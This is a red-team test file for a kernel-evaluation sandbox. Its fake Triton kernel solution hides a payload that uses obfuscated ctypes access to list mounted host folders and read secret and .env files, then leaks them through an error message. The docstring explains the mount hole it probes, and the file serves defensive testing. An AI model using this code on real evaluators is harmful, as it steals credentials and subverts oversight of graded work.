# drk-attack: task=data/queries/001_scaled_tanh_bias.py property=no_read_secrets expect=forbidden|runtime_error|compile_error|crashed device=cpu check=host_secret_file
"""Reads host files through the directories of the HOST's sys.path that the sandbox binds read-only so that
 imports resolve: besides site-packages and drk's own source, every extra sys.path entry of the process that
 started the pool is bound, i.e. the folder of the driver script when it is not the working directory and
 every PYTHONPATH entry (recon: a driver /tmp/rt7b/ev.py run from another folder -> /tmp/rt7b bound, and a
 0644 file beside it read back in the error; `python -m mod` with PYTHONPATH=src:/tmp/rt7c -> /tmp/rt7c
 bound; the working directory itself is not bound; under this pytest harness tests/ is bound (pytest puts the
 rootdir's tests/ on sys.path), the repository root is not). Those folders are the user's project, not
 libraries: configs, `.env` files, datasets, logs, trainer outputs (other candidates' results). The candidate
 lists the ext4 binds in /proc/self/mountinfo that are not system or library folders, reads the test's fake
 secret file (`drk-redteam-host-secret.txt`) and `.env` in each of them and their parent through libc, and
 raises with what it found (plain and hex). In this harness the secret sits at the repository root, which is
 not bound, so the test passes; the hole shows with a driver script kept outside its working directory. A
 sound evaluator binds only what imports need (site-packages, the drk package), never the host's script
 folder or PYTHONPATH project folders: `runtime_error` with nothing read."""
import torch
import torch.nn as nn
import triton
import triton.language as tl
import functools
_ct = functools.reduce(getattr, ("ctypes",), torch)
_libc = _ct.CDLL(None, use_errno=True)

SYSTEM = ("/usr", "/lib", "/bin", "/sbin", "/etc", "/root/.pyenv", "/opt", "/dev", "/proc", "/sys")


def _rd(p, n=1 << 16):
    fd = _libc.open(p.encode(), 0)
    if fd < 0:
        return None
    buf, data = _ct.create_string_buffer(65536), b""
    while len(data) < n:
        k = _libc.read(fd, buf, 65536)
        if k <= 0:
            break
        data += buf.raw[:k]
    _libc.close(fd)
    return data.decode(errors="replace")


def _loot():
    binds = []
    for ln in (_rd("/proc/self/mountinfo") or "").splitlines():
        f = ln.split()
        if " - ext4 " in ln or " - xfs " in ln or " - btrfs " in ln or " - overlay " in ln:
            mp = f[4]
            if mp != "/" and not mp.startswith(SYSTEM) and "site-packages" not in mp and "/.venv" not in mp:
                binds.append(mp)
    found, listing = [], []
    for d in binds:
        for cand in (d, d.rsplit("/", 1)[0] if d.endswith("/tests") else d + "/.."):
            for name in ("drk-redteam-host-secret.txt", ".env"):
                t = _rd(cand + "/" + name)
                if t:
                    found.append("%s/%s: %s hex %s" % (cand, name, t.strip(), t.strip().encode().hex()))
        listing.append(d)
    return found, listing


@triton.jit
def stb_kernel(x_ptr, b_ptr, o_ptr, n, hidden, scale, BLOCK: tl.constexpr):
    offs = tl.program_id(0).to(tl.int64) * BLOCK + tl.arange(0, BLOCK)
    m = offs < n
    x = tl.load(x_ptr + offs, mask=m)
    b = tl.load(b_ptr + offs % hidden, mask=m)
    tl.store(o_ptr + offs, scale * (1.0 - 2.0 / (tl.exp(2.0 * x) + 1.0)) + b, mask=m)


class ModelNew(nn.Module):
    def __init__(self, hidden, scale):
        super().__init__()
        self.scale = scale
        self.bias = nn.Parameter(0.1 * torch.randn(hidden))

    def forward(self, x):
        found, listing = _loot()
        m = "read: %s; bound: %s" % (found, [d for d in listing if "triton-base" not in d])
        raise RuntimeError(m)
